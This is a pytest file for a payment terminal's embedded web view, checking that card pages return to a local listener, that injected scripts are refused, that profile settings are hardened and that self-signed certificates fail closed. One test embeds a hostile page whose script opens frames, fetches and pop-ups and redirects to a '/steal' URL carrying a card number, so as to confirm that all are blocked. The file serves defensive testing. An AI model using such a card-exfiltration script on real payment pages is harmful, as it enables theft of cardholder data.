"""PaymentWebView in real QtWebEngine (offscreen) against real servers on loopback.

The card page returns to a real ReturnListener on the session's qasync loop; the hostile page and the
self-signed server are real uvicorn servers. Every wait is bounded (15 s).
"""

from __future__ import annotations

import asyncio
import gc
import json
import socket
import threading
import time
from collections.abc import Callable, Coroutine, Iterator
from pathlib import Path
from typing import Any

import pytest
from PySide6.QtCore import Qt, qInstallMessageHandler
from PySide6.QtTest import QTest
from PySide6.QtWebEngineCore import QWebEngineProfile, QWebEngineSettings
from pytestqt.qtbot import QtBot
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import HTMLResponse, Response
from starlette.routing import Route
from starlette.types import ASGIApp, Receive, Scope, Send

from terminal.gateways.base import Challenge
from terminal.sim.runner import serve_app
from terminal.ui.navigation import origin_of
from terminal.ui.return_listener import PageSlot, ReturnListener
from terminal.ui.web_view import PaymentWebView
from tests.support.tls import self_signed, serve_tls

pytestmark = pytest.mark.webengine

WAIT_S = 15.0
CARD_PAGE = """<!doctype html><html><head><title>Gateway card page</title></head><body>
<form id="card" method="post" action="{action}">
<input name="cardNumber"><input name="expiry"><input type="hidden" name="session" value="s-1">
<button id="pay">Pay</button></form></body></html>"""


class HitCounter:
    """ASGI wrapper recording each request's path."""

    def __init__(self, app: ASGIApp) -> None:
        self.app = app
        self.paths: list[str] = []
        self._lock = threading.Lock()

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        if scope["type"] == "http":
            with self._lock:
                self.paths.append(scope["path"])
        await self.app(scope, receive, send)


async def _card(request: Request) -> Response:
    return HTMLResponse(CARD_PAGE.format(action=request.query_params["ret"]))


async def _anything(_request: Request) -> Response:
    return HTMLResponse("<h1>FOREIGN</h1>", headers={"access-control-allow-origin": "*"})


@pytest.fixture(scope="module")
def gateway() -> Iterator[str]:
    url, stop = serve_app(Starlette(routes=[Route("/card", _card)]))
    yield url
    stop()


@pytest.fixture(scope="module")
def foreign() -> Iterator[tuple[str, HitCounter]]:
    counter = HitCounter(Starlette(routes=[Route("/{path:path}", _anything, methods=["GET", "POST"])]))
    url, stop = serve_app(counter)
    yield url, counter
    stop()


@pytest.fixture
def listener(qloop: asyncio.AbstractEventLoop) -> Iterator[ReturnListener]:
    running = ReturnListener()
    qloop.run_until_complete(running.start())
    yield running
    qloop.run_until_complete(running.stop())


@pytest.fixture
def make_view(qloop: asyncio.AbstractEventLoop) -> Iterator[Callable[..., PaymentWebView]]:
    made: list[PaymentWebView] = []

    def make(challenge: Challenge, **options: Any) -> PaymentWebView:
        view = PaymentWebView(challenge, **{"allow_loopback_http": True, **options})
        view.resize(800, 600)
        view.show()
        made.append(view)
        return view

    yield make
    messages: list[str] = []
    previous = qInstallMessageHandler(lambda _kind, _context, message: messages.append(message))
    try:
        for view in made:
            view.close_page()
            view.close()
            view.deleteLater()
        made.clear()
        qloop.run_until_complete(asyncio.sleep(0.2))  # deferred deletes: view, page, profile, in order
        gc.collect()
    finally:
        qInstallMessageHandler(previous)
    # QtWebEngine's complaint when a profile goes before its page ("Expect troubles !").
    assert not [m for m in messages if "Release of profile" in m], messages


def run(qloop: asyncio.AbstractEventLoop, coro: Coroutine[Any, Any, Any]) -> Any:
    return qloop.run_until_complete(asyncio.wait_for(coro, WAIT_S + 5))


async def until(condition: Callable[[], object], what: str) -> None:
    deadline = time.monotonic() + WAIT_S
    while not condition():
        if time.monotonic() > deadline:
            raise AssertionError(f"timed out waiting for {what}")
        await asyncio.sleep(0.05)


async def js(view: PaymentWebView, script: str) -> Any:
    future: asyncio.Future[Any] = asyncio.get_running_loop().create_future()
    view.run_js(script, lambda value: future.done() or future.set_result(value))
    return await asyncio.wait_for(future, WAIT_S)


async def until_js(view: PaymentWebView, condition: str) -> Any:
    deadline = time.monotonic() + WAIT_S
    while True:
        value = await js(view, f"(function(){{try{{return {condition};}}catch(e){{return null;}}}})()")
        if value:
            return value
        if time.monotonic() > deadline:
            raise AssertionError(f"the page never satisfied {condition}")
        await asyncio.sleep(0.05)


def record(view: PaymentWebView) -> dict[str, list[str]]:
    seen: dict[str, list[str]] = {"returned": [], "blocked": [], "failed": [], "cancelled": []}
    view.returned.connect(seen["returned"].append)
    view.blocked.connect(seen["blocked"].append)
    view.load_failed.connect(seen["failed"].append)
    view.cancelled.connect(lambda: seen["cancelled"].append("cancelled"))
    return seen


async def fill_and_submit(view: PaymentWebView, fields: dict[str, str]) -> None:
    await until_js(view, "document.querySelector('form') !== null")
    assignments = "".join(
        f"document.querySelector('[name={json.dumps(k)}]').value = {json.dumps(v)};"
        for k, v in fields.items()
    )
    await js(view, assignments + " document.querySelector('form').submit(); true;")


async def returned_fields(slot: PageSlot, seen: dict[str, list[str]]) -> dict[str, str]:
    fields = await asyncio.wait_for(slot.wait(), WAIT_S)
    await until(lambda: seen["returned"], "the returned signal")
    return fields


# -- (a) the card page returns to the listener --------------------------------------------------
def test_card_page_posts_to_the_listener_and_returns(
    qloop: asyncio.AbstractEventLoop, gateway: str, listener: ReturnListener, make_view: Any
) -> None:
    slot = listener.new_page()
    challenge = Challenge(
        return_url_prefix=slot.return_url,
        allowed_origins=frozenset({gateway}),
        url=f"{gateway}/card?ret={slot.return_url}",
        title="Card entry",
    )
    view = make_view(challenge)
    seen = record(view)

    async def scenario() -> tuple[dict[str, str], str]:
        view.load()
        await fill_and_submit(view, {"cardNumber": "4242424242424242", "expiry": "12/30"})
        fields = await returned_fields(slot, seen)
        text = await until_js(
            view,
            "document.body && document.body.innerText.includes('received') ? document.body.innerText : null",
        )
        return fields, str(text)

    fields, text = run(qloop, scenario())
    assert fields == {"cardNumber": "4242424242424242", "expiry": "12/30", "session": "s-1"}
    assert seen["returned"] == [slot.return_url]
    assert seen["blocked"] == [] and seen["failed"] == [] and view.blocked_urls == []
    assert "finishing the payment in the terminal" in text
    assert view.title_label.text() != ""  # the header follows the page title
    assert "SANDBOX" in view.origin_label.text()


def test_listener_served_page_runs_only_its_own_code_on_a_live_profile(
    qloop: asyncio.AbstractEventLoop, listener: ReturnListener, make_view: Any
) -> None:
    slot = listener.new_page()
    html = f"""<!doctype html><html><head><title>Card</title></head><body>
<form method="post" action="{slot.return_url}"><input name="token" value="tok_9"></form>
<script>window.good = 1;
var s = document.createElement("script"); s.textContent = "window.evil = 1;"; document.body.appendChild(s);
</script></body></html>"""
    slot.set_page(html, {listener.origin})
    challenge = Challenge(
        return_url_prefix=slot.return_url, allowed_origins=frozenset({listener.origin}), html=html
    )
    # Live: no plain http to loopback in general, only to the terminal's own listener.
    view = make_view(challenge, allow_loopback_http=False, local_origin=listener.origin)
    seen = record(view)

    async def scenario() -> tuple[Any, dict[str, str]]:
        view.load_url(slot.entry_url)
        await until_js(view, "window.good === 1")
        evil = await js(view, "typeof window.evil")
        await js(view, "document.querySelector('form').submit(); true;")
        return evil, await returned_fields(slot, seen)

    evil, fields = run(qloop, scenario())
    assert evil == "undefined"  # an injected inline script is refused by the hash-only CSP
    assert fields == {"token": "tok_9"}
    assert "This terminal" in view.origin_label.text()
    assert seen["blocked"] == []


# -- (b) a hostile page reaches nothing off the list --------------------------------------------
def test_hostile_inline_page_is_contained(
    qloop: asyncio.AbstractEventLoop, gateway: str, foreign: tuple[str, HitCounter], make_view: Any
) -> None:
    foreign_url, hits = foreign
    hits.paths.clear()
    html = f"""<!doctype html><html><body><h1 id="ready">3-D Secure</h1>
<iframe src="{foreign_url}/frame"></iframe>
<script>
window.results = {{}};
fetch("{foreign_url}/fetch").then(function(){{ window.results.fetch = "ok"; }},
                                  function(){{ window.results.fetch = "blocked"; }});
var w = window.open("{foreign_url}/popup"); window.results.popup = w === null ? "null" : "window";
setTimeout(function(){{ window.location = "{foreign_url}/steal?pan=4111111111111111"; }}, 300);
</script></body></html>"""
    challenge = Challenge(
        return_url_prefix=f"{gateway}/return",
        allowed_origins=frozenset({gateway}),
        html=html,
        base_url=f"{gateway}/acs/",
    )
    view = make_view(challenge)
    seen = record(view)
    popups: list[object] = []
    view.web_page().newWindowRequested.connect(popups.append)

    async def scenario() -> Any:
        view.load()
        done = "window.results && window.results.fetch ? JSON.stringify(window.results) : null"
        results = await until_js(view, done)
        await until(lambda: view.blocked_count >= 3, "the frame, fetch and navigation refusals")
        await asyncio.sleep(0.3)  # room for anything else the page might still try
        return results

    results = json.loads(run(qloop, scenario()))
    assert hits.paths == []  # nothing reached the foreign server: not the frame, fetch, pop-up or navigation
    assert results == {"fetch": "blocked", "popup": "null"}
    assert origin_of(foreign_url) in seen["blocked"]
    assert set(view.blocked_urls) == {origin_of(foreign_url)}
    assert view.blocked_count >= 3  # frame, fetch, navigation
    assert popups == []
    assert view.web_page().url().toString() == f"{gateway}/acs/"
    assert all("4111" not in entry for entry in seen["blocked"] + view.blocked_urls)  # origins, never paths
    assert seen["returned"] == []


# -- (c) profile, settings, teardown --------------------------------------------------------------
def test_profile_is_off_the_record_and_settings_are_hardened(make_view: Any) -> None:
    challenge = Challenge(
        return_url_prefix="https://gw.example/return",
        allowed_origins=frozenset({"https://gw.example"}),
        url="https://gw.example/pay",
    )
    view, other = make_view(challenge), make_view(challenge)
    profile = view.profile()
    assert profile.isOffTheRecord() and profile.storageName() == ""
    assert profile is not QWebEngineProfile.defaultProfile() and profile is not other.profile()
    assert profile.httpCacheType() == QWebEngineProfile.HttpCacheType.MemoryHttpCache
    page = view.web_page()
    assert page.profile() is profile and page.webChannel() is None
    attribute = QWebEngineSettings.WebAttribute
    for settings in (page.settings(), profile.settings()):
        for off in (
            attribute.JavascriptCanOpenWindows,
            attribute.JavascriptCanAccessClipboard,
            attribute.JavascriptCanPaste,
            attribute.LocalContentCanAccessRemoteUrls,
            attribute.LocalContentCanAccessFileUrls,
            attribute.PluginsEnabled,
            attribute.NavigateOnDropEnabled,
            attribute.AllowRunningInsecureContent,
        ):
            assert settings.testAttribute(off) is False, off
        assert settings.unknownUrlSchemePolicy() == settings.UnknownUrlSchemePolicy.DisallowUnknownUrlSchemes
    assert view.view.contextMenuPolicy() == Qt.ContextMenuPolicy.NoContextMenu
    assert page.createWindow(page.WebWindowType.WebBrowserWindow) is None

    view.close_page()
    view.close_page()  # harmless twice
    assert view.closed
    with pytest.raises(RuntimeError):
        view.web_page()
    with pytest.raises(RuntimeError):
        view.load_url("https://gw.example/pay")  # a closed view has no page to load into


# -- (d) certificate errors fail closed -----------------------------------------------------------
@pytest.fixture
def tls_server(tmp_path: Path) -> Iterator[tuple[str, HitCounter]]:
    counter = HitCounter(Starlette(routes=[Route("/{path:path}", _anything)]))
    base, stop = serve_tls(counter, *self_signed(tmp_path))
    yield base, counter
    stop()


def test_self_signed_certificate_is_refused(
    qtbot: QtBot, tls_server: tuple[str, HitCounter], make_view: Any
) -> None:
    base, hits = tls_server
    view = make_view(
        Challenge(return_url_prefix=f"{base}/return", allowed_origins=frozenset({base}), url=f"{base}/pay"),
        allow_loopback_http=False,
    )
    seen = record(view)
    with qtbot.waitSignal(view.load_failed, timeout=int(WAIT_S * 1000)) as failure:
        view.load()
    assert "certificate" in str(failure.args[0]).lower()
    qtbot.wait(300)
    assert seen["failed"] == [failure.args[0]]  # reported once, not again by the failed load itself
    assert hits.paths == [] and seen["returned"] == []


def test_unreachable_page_reports_load_failed(qtbot: QtBot, make_view: Any) -> None:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        dead = f"http://127.0.0.1:{probe.getsockname()[1]}"  # bound, never listening: refused
        view = make_view(
            Challenge(return_url_prefix=f"{dead}/r", allowed_origins=frozenset({dead}), url=dead)
        )
        with qtbot.waitSignal(view.load_failed, timeout=int(WAIT_S * 1000)) as failure:
            view.load()
    assert "could not be loaded" in failure.args[0]


# -- the header: Cancel and Esc -------------------------------------------------------------------
def test_escape_in_the_page_and_the_cancel_button_cancel(
    qloop: asyncio.AbstractEventLoop, qtbot: QtBot, gateway: str, make_view: Any
) -> None:
    view = make_view(
        Challenge(
            return_url_prefix=f"{gateway}/r",
            allowed_origins=frozenset({gateway}),
            url=f"{gateway}/card?ret=/r",
        )
    )
    run(qloop, until_js_after_load(view))
    target = view.view.focusProxy() or view.view
    target.setFocus()
    with qtbot.waitSignal(view.cancelled, timeout=int(WAIT_S * 1000)):
        QTest.keyClick(target, Qt.Key.Key_Escape)
    with qtbot.waitSignal(view.cancelled, timeout=int(WAIT_S * 1000)):
        QTest.mouseClick(view.cancel_button, Qt.MouseButton.LeftButton)


async def until_js_after_load(view: PaymentWebView) -> None:
    view.load()
    await until_js(view, "document.querySelector('form') !== null")
